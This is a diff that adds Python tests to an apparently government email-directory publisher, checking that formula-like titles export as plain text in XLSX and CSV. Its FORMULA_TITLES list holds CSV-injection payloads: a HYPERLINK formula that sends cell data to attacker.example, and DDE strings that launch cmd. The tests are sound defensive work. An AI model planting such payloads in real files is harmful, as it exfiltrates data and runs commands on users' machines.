@@ -176,3 +176,70 @@ def test_running_server_publishes(server: Any) -> None:
         time.sleep(0.1)
     assert index.exists()
     assert "Danh bạ thư điện tử công vụ" in index.read_text(encoding="utf-8")
+
+
+# Cells an office spreadsheet would read as a formula (OWASP "CSV Injection"): a title
+# like these must come out as the text it is, in danh-ba.xlsx and danh-ba.csv alike.
+FORMULA_TITLES = [
+    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_formula_titles_are_text(eapp: App, tmp_path: Path) -> None:
+    """A title beginning with =, +, -, @ (set through the directory) is text in the XLSX
+    (string cells, never formulas) and escaped in the CSV (a leading quote, every cell
+    quoted); the JSON keeps it unchanged."""
+    d = Directory(eapp)
+    await d.add_org("Sở Thông tin và Truyền thông")
+    stored = FORMULA_TITLES[:4]
+    for i, title in enumerate(stored):
+        await d.add_person(f"Nguyễn Văn {chr(ord('A') + i)}", "sotttt", title=title)
+    dest = tmp_path / "pub"
+    await publish(eapp, dest)
+
+    sheet = load_workbook(dest / "danh-ba.xlsx").worksheets[0]
+    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
+    for title in stored:
+        assert title in cells, title
+        assert cells[title].data_type == "s", (title, cells[title].data_type)
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+
+    raw = (dest / "danh-ba.csv").read_text(encoding="utf-8-sig")
+    with (dest / "danh-ba.csv").open(encoding="utf-8-sig", newline="") as f:
+        table = list(csv.reader(f))
+    titles = {row[1] for row in table[1:]}
+    for title in stored:
+        assert "'" + title in titles, title
+    for line in raw.splitlines():
+        assert line.startswith('"')  # every cell quoted (OWASP)
+    for row in table:
+        for cell in row:
+            assert not cell or cell[0] not in "=+-@\t\r", cell
+
+    data = json.loads((dest / "danh-ba.json").read_text(encoding="utf-8"))
+    shown = {p["title"] for o in data["organisations"] for p in o["people"]}
+    assert set(stored) <= shown
+
+
+def test_formula_cells_every_leading_character(tmp_path: Path) -> None:
+    """Tab and CR too (a title read from an import file may begin with one)."""
+    from congthu.directory.publish import Entry, render_csv, render_xlsx
+
+    entries = [Entry("person", f"Người {i}", title, "Sở", f"n{i}@soctrang.gov.vn", "")
+               for i, title in enumerate(FORMULA_TITLES)]
+    groups: list[tuple[int, Any, list[Any]]] = [(0, None, entries)]
+    fields = ["name", "title", "organisation", "address"]
+    (tmp_path / "d.xlsx").write_bytes(render_xlsx(groups, fields))
+    sheet = load_workbook(tmp_path / "d.xlsx").worksheets[0]
+    column = [row[1] for row in sheet.iter_rows(min_row=2)]
+    # (XML reads a CR in text back as LF: the cell is still the title, as text.)
+    assert [c.value for c in column] == [t.replace("\r", "\n") for t in FORMULA_TITLES]
+    assert all(c.data_type == "s" for c in column)
+    text = render_csv(groups, fields).decode("utf-8-sig")
+    table = list(csv.reader(text.splitlines(keepends=True)))
+    assert [row[1] for row in table[1:]] == ["'" + t for t in FORMULA_TITLES]
